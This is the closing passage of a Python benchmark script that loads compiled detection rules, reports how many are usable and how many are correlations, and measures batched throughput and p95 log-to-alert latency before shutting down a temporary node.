                set_stream_refresh(settings, args.stream_refresh)
            compiled = load_rules(public=not args.ours_only)
            if args.query_string:
                compiled = [plain_query_string(c) for c in compiled]
            usable = [c for c in compiled if not isinstance(c, convert.Unsupported)]
            print(f"rules enabled: {len(usable)} of {len(compiled)} loaded "
                  f"({sum(1 for c in usable if isinstance(c, convert.CompiledCorrelation))} correlations); "
                  f"node {'at ' + args.url if args.url else 'dedicated'}")
            if args.load_only:
                bench_load_only(settings, args.rate, args.seconds, args.feed)
                return 0
            if not args.latency_only:
                bench_batched(settings, compiled, args.events, args.runs, args.concurrency)
            if not args.no_latency:
                p95 = bench_latency(settings, compiled, args.rate, args.seconds, args.interval, args.settle,
                                    args.concurrency, args.feed)
                print(f"p95 log-to-alert latency: {p95:.2f} s")
    finally:
        if home is not None:
            node.stop(home)
            shutil.rmtree(home, ignore_errors=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
